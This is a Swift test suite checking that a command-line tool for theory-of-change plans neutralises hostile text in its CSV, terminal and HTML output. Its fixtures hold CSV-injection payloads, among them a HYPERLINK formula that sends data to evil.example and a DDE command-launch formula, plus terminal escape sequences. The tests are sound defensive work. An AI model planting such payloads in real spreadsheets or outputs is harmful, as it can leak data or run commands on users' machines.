import Foundation
import Testing
import TocMonitor
import TocTestSupport

/// Text that tries to run as a formula in a spreadsheet or as a command in
/// a terminal (issue #14, points 4 and 10): every output shows it, none
/// passes it on to be run.
@Suite struct HostileTextTests {
    static let escape = "\u{1B}]0;PWNED\u{07}\u{1B}[2J"
    static let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2;\"Open\")"
    static let theory = """
        forandringsteori: @SUM(1+1)
        aktivitet a: \(formula)
          -> m
        mål m: +Tryghed \(escape)
          indikator i: -Andel trygge beboere
            udgangspunkt: -3%
            målværdi: 10%
            kilde: =cmd|' /C calc'!A0

        """

    /// Every cell of every CSV `toc` writes: none may start a formula, none
    /// holds a control character; plain numbers such as `-3%` stay numbers.
    @Test func csvCellsNeverStartAFormula() throws {
        let folder = try temporaryFolder(["t.ft": Self.theory, "m.csv": "indikator,dato,værdi\ni,2024-01-01,-2%\n"])
        let outputs = [
            try toc(["indicators", "t.ft", "--format", "csv"], in: folder).stdout,
            try toc(["check", "t.ft", "--format", "csv"], in: folder).stdout,
            try toc(["status", "t.ft", "--measurements", "m.csv", "--format", "csv"], in: folder).stdout,
        ]
        for output in outputs {
            #expect(!output.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{07}" })
            for cell in Self.cells(output) {
                guard let first = cell.first, "=+-@\t\r".contains(first) else { continue }
                #expect(PlanWriter.isPlainNumber(cell), "cell \(cell) could start a formula")
            }
        }
        #expect(outputs[0].contains("'=cmd|' /C calc'!A0"))
        #expect(outputs[1].contains("'@SUM(1+1)"))
        #expect(outputs[0].contains("'+Tryghed \\u001B]0;PWNED\\u0007\\u001B[2J"))
        #expect(Self.cells(outputs[0]).contains("-3%"))
        #expect(Self.cells(outputs[2]).contains("-2%"))
    }

    @Test(arguments: ["=1+2", "+45 1234", "-x", "@SUM", "\tx", "\rx"])
    func formulaCellsGetAQuote(cell: String) {
        let safe = PlanWriter.safeCell(cell)
        // A carriage return is shown as \u000D, which starts nothing.
        #expect(safe.hasPrefix("'") || safe.hasPrefix("\\u000D"), "\(safe)")
    }

    @Test(arguments: ["-3%", "+4,5", "-0.25", "12", "Lektiecafé", "3-4 gange"])
    func otherCellsStay(cell: String) {
        #expect(PlanWriter.safeCell(cell) == cell)
    }

    /// The fields of a CSV text (quoted fields may hold the delimiter).
    static func cells(_ text: String) -> [String] {
        var cells: [String] = [], current = "", quoted = false
        var previous: Character = " "
        for character in text.replacingOccurrences(of: "\u{FEFF}", with: "") {
            if character == "\"" {
                if quoted, previous == "\"" { current.append("\"") }
                quoted.toggle()
            } else if !quoted, character == "," || character == ";" || character == "\r\n" || character == "\n" {
                cells.append(current)
                current = ""
            } else {
                current.append(character)
            }
            previous = character
        }
        return cells + [current]
    }

    /// Terminal output shows escapes as text: a label cannot retitle or
    /// clear the terminal, neither can a file name.
    @Test func theTerminalGetsNoEscapes() throws {
        let name = "plan\u{1B}[2J.ft"
        let folder = try temporaryFolder([name: Self.theory + "aktivitet løs: \(Self.escape)\n"])
        let result = try toc(["check", name], in: folder)
        #expect(result.status == 1)
        let output = result.stdout + result.stderr
        #expect(!output.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{07}" })
        #expect(output.contains("plan\\u001B[2J.ft:"))
        #expect(output.contains("aktivitet løs: \\u001B]0;PWNED\\u0007\\u001B[2J"))
    }

    /// The HTML report shows them as text too.
    @Test func theReportGetsNoControlCharacters() throws {
        let folder = try temporaryFolder(["t.ft": Self.theory])
        let result = try toc(["report", "t.ft", "-o", "-"], in: folder)
        #expect(result.status == 0 || result.status == 1, "\(result.stderr)")
        #expect(!result.stdout.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{07}" })
        #expect(result.stdout.contains("\\u001B]0;PWNED"))
    }
}
